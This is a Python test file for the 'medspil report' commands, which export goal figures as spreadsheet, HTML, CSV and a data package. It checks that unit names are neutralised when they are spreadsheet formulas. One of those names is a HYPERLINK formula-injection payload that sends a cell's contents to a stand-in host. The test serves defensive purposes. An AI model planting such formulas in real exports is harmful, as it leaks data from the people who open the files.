"""`medspil report goals` and `medspil report data`: figures of sub-goals as files, whatever the units are called."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import insert

from medspil.bot.clock import machine_clock
from medspil.bot.commands.opening import open_store, settings_or_stop
from medspil.domain.goal_figures import Block
from medspil.storage.goal_counts import rows_of
from medspil.storage.store import Store
from medspil.storage.tables import goal_counts, goal_periods, units
from tests.bot.test_command_line import medspil, stopped
from tests.conversations.some_goal_figures import all_blocks, citizens

RANGE = ("--from", "2026-01-01", "--to", "2026-03-31")
EVIL = '=HYPERLINK("http://example.invalid/?"&A1;"klik")'
NAMES = {"north": EVIL, "south": "@SUM(A1:A9)", "harbour": "-2+3"}


@pytest.fixture(scope="module")
def blocks() -> tuple[Block, ...]:
    return all_blocks(citizens(), 3)


@pytest.fixture(autouse=True)
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, blocks: tuple[Block, ...]) -> Iterator[Store]:
    """The sandbox's own store with three months that are told, of units whose names are formulas."""
    monkeypatch.chdir(tmp_path)
    opened = open_store(settings_or_stop(), in_sandbox=True).store
    now = machine_clock()
    with opened.database.transaction() as connection:
        connection.execute(insert(units), [{"id": i, "name": name, "made_at": now} for i, name in NAMES.items()])
        connection.execute(insert(goal_counts), [row for block in blocks for row in rows_of(block)])
        connection.execute(insert(goal_periods).values(begins=date(2026, 3, 1), ends=date(2026, 3, 31), frozen_at=now))
    yield opened
    opened.database.close()


def test_the_figures_come_as_a_spreadsheet_with_charts_and_no_formula_in_it() -> None:
    result = medspil("report", "goals", *RANGE)
    assert result.exit_code == 0, result.output
    assert result.stdout == "Written: medspil-goals-2026-01-01-2026-03-31.xlsx\n"
    book = openpyxl.load_workbook("medspil-goals-2026-01-01-2026-03-31.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    assert {EVIL, "@SUM(A1:A9)", "-2+3"} <= {cell.value for cell in cells}
    assert sum(len(sheet._charts) for sheet in book.worksheets) > 8


def test_the_figures_come_as_a_page_in_which_a_name_is_only_words(tmp_path: Path) -> None:
    place = tmp_path / "tal.html"
    assert medspil("report", "goals", *RANGE, "--format", "html", "--out", str(place), "--lang", "en").exit_code == 0
    page = place.read_text("utf-8")
    assert '<html lang="en">' in page
    assert "=HYPERLINK(&quot;http://example.invalid/?&quot;&amp;A1;&quot;klik&quot;)" in page
    assert "<script" not in page
    assert "Quarter 1 of 2026 (had waited)" in page
    assert place.stat().st_mode & 0o077 == 0


def test_the_figures_come_as_one_long_table_in_which_no_cell_is_a_formula() -> None:
    result = medspil("report", "goals", *RANGE, "--format", "csv", "--out", "-")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8-sig")), delimiter=";"))
    assert {f"'{name}" for name in NAMES.values()} <= {row["unit"] for row in rows}
    assert [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    ] == []
    assert {row["from"] for row in rows} == {"2026-01-01", "2026-02-01", "2026-03-01"}


def test_only_whole_months_and_quarters_are_told_whatever_days_are_asked_for() -> None:
    def told(*days: str) -> set[tuple[str, str]]:
        result = medspil("report", "goals", "--from", days[0], "--to", days[1], "--format", "csv", "--out", "-")
        rows = csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8-sig")), delimiter=";")
        return {(row["from"], row["to"]) for row in rows}

    assert told("2026-01-02", "2026-03-30") == {("2026-02-01", "2026-02-28")}
    assert ("2026-01-01", "2026-03-31") not in told("2026-01-02", "2026-04-30")
    assert ("2026-01-01", "2026-03-31") in told(*RANGE[1::2])


def test_of_months_without_figures_the_report_says_so() -> None:
    medspil("report", "goals", "--from", "2020-01-01", "--to", "2020-12-31", "--format", "html", "--out", "tom.html")
    assert "Ingen tal endnu" in Path("tom.html").read_text("utf-8")


def test_the_data_for_a_bi_of_ones_own_comes_with_its_description(blocks: tuple[Block, ...]) -> None:
    result = medspil("report", "data", "--out", "bi")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["Written: bi/goals.csv", "Written: bi/datapackage.json"]
    package = json.loads(Path("bi/datapackage.json").read_text("utf-8"))
    (resource,) = package["resources"]
    table = (Path("bi") / resource["path"]).read_bytes()
    rows = list(
        csv.DictReader(io.StringIO(table.decode(resource["encoding"])), delimiter=resource["dialect"]["delimiter"])
    )
    assert list(rows[0]) == [field["name"] for field in resource["schema"]["fields"]]
    assert len(rows) == sum(len(block.cells) for block in blocks)
    assert min(int(row["people"]) for row in rows) >= 3
    assert {f"'{EVIL}", "Alle"} <= {row["unit"] for row in rows}
    assert Path("bi").stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("goals", "--from", "i går"), "--from is no day; write it like 2026-11-24."),
        (("goals", "--from", "2026-02-01", "--to", "2026-01-01"), "--from (2026-02-01) is after --to (2026-01-01)"),
        (("goals", "--lang", "sv"), "--lang is none of the languages"),
        (("data", "--lang", "sv"), "--lang is none of the languages"),
        (("data", "--out", "/proc/nowhere"), "The folder /proc/nowhere can't be made (FileNotFoundError)"),
    ],
)
def test_what_is_wrong_is_said_in_one_sentence(arguments: tuple[str, ...], said: str) -> None:
    assert said in stopped(medspil("report", *arguments))
